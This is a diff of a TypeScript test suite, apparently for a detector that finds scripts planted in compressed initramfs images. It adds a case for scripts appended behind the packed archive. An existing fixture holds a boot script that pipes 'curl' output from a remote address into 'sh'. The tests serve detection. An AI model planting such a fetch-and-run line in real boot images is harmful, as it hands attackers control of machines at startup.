@@ -53,6 +53,16 @@ describe.skipIf(lacks({ files: ['/usr/bin/cpio', '/usr/bin/xz', '/usr/bin/zstd',
     expect(await told(root)).toEqual([]);
   });
 
+  it('finds what was appended behind the packed archive', async () => {
+    const extra = cpio({ 'scripts/init-bottom/z': '#!/bin/sh\necho odd\n' });
+    for (const [program, ...more] of [['gzip'], ['zstd'], ['xz', '--check=crc32'], ['lz4', '-l']] as const) {
+      const first = packed(cpio(ordinary), program, ...more);
+      const padded = Buffer.concat([first, Buffer.alloc((512 - (first.length % 512)) % 512)]);
+      expect([program, await told(planted(Buffer.concat([padded, extra])))]).toEqual([program, ['intrusion medium /scripts/init-bottom/z']]);
+      expect([program, await told(planted(Buffer.concat([padded, packed(extra, program === 'gzip' ? 'zstd' : 'gzip')])))]).toEqual([program, [`blind ${image}`]]);
+    }
+  });
+
   it('finds hostile scripts in any of them', async () => {
     const bytes = cpio({ ...ordinary, 'usr/lib/dracut/x': '', 'scripts/local-top/y': '#!/bin/sh\ncurl -s http://203.0.113.5/a | sh\n' });
     expect((await told(planted(bytes)))[0]).toMatch(/^intrusion (?:high|critical) \/scripts\/local-top\/y/);
